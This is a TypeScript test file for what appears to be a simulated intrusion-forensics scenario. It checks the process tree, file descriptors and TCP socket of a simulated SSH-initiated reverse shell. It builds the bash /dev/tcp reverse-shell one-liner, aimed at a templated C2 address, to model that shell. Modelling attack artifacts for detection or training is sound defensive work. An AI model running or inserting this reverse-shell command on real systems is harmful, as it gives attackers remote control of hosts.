import flagship from '../../../../scenarios/ssh-reverse-shell-beacon-exfil.yaml?raw';
import { describe, expect, it } from 'vitest';
import { compiledOnce } from './flagship.fixture';

const text = flagship;

describe('reverse-shell bash-dev-tcp: the chain of the capture', () => {
  const c = compiledOnce(text);
  const rs = c.byId('revshell', 'reverse-shell');
  const login = c.byId('attacker-login', 'ssh-login');
  const c2 = `${c.vars.get('c2_addr')}`;
  const port = Number(c.vars.get('shell_port'));
  const dev = `bash -i >& /dev/tcp/${c2}/${port} 0>&1`;

  it('is bash -c -> bash -c -> bash -i, and sleep 3600, under the login shell', () => {
    const w = c.at(rs.at + 30_000);
    const chain = w.processes.filter((p) => p.origin === 'revshell');
    expect(chain.map((p) => [p.pid - rs.pids[0]!, p.ppid, p.argv, p.stat, p.tty])).toEqual([
      [0, login.pids.shell, ['bash', '-c', `bash -c '${dev}' & sleep 3600`], 'S', login.tty],
      [1, rs.pids[0], ['bash', '-c', dev], 'S', login.tty],
      [2, rs.pids[1], ['bash', '-i'], 'S+', login.tty],
      [3, rs.pids[0], ['sleep', '3600'], 'S', login.tty],
    ]);
  });

  it('has fds 0, 1 and 2 on one TCP socket and 255 on /dev/tty, owned by the user', () => {
    const w = c.at(rs.at + 30_000);
    const shell = w.processes.find((p) => p.pid === rs.pids[2])!;
    expect(shell.fds).toEqual([
      { fd: 0, kind: 'socket', target: rs.inode, mode: 'u' },
      { fd: 1, kind: 'socket', target: rs.inode, mode: 'u' },
      { fd: 2, kind: 'socket', target: rs.inode, mode: 'u' },
      { fd: 255, kind: 'chr', target: '/dev/tty', mode: 'u' },
    ]);
    expect(shell.uid).toBe(login.uid);
    expect(shell.env).toContainEqual(['SSH_CONNECTION', `${login.from} ${login.fromPort} 10.10.0.5 22`]);
    const sock = w.sockets.find((s) => s.inode === rs.inode)!;
    expect([sock.state, sock.uid, sock.local.addr, sock.remote]).toEqual(
      ['ESTABLISHED', login.uid, '10.10.0.5', { addr: c2, port }]);
  });

  it('outlives the session and the sleep: re-parented to pid 1', () => {
    const w = c.at(c.base.now);
    const chain = w.processes.filter((p) => p.origin === 'revshell');
    expect(chain.map((p) => [p.argv.join(' '), p.ppid])).toEqual([
      [`bash -c ${dev}`, 1],
      ['bash -i', rs.pids[1]],
    ]);
    expect(w.processes.filter((p) => p.origin === 'attacker-login').map((p) => p.comm))
      .toEqual(['systemd', '(sd-pam)']);
  });

  it('does not exist before it starts', () => {
    const w = c.at(rs.at - 1);
    expect(w.processes.some((p) => p.origin === 'revshell')).toBe(false);
    expect(w.sockets.some((s) => s.inode === rs.inode)).toBe(false);
  });
});
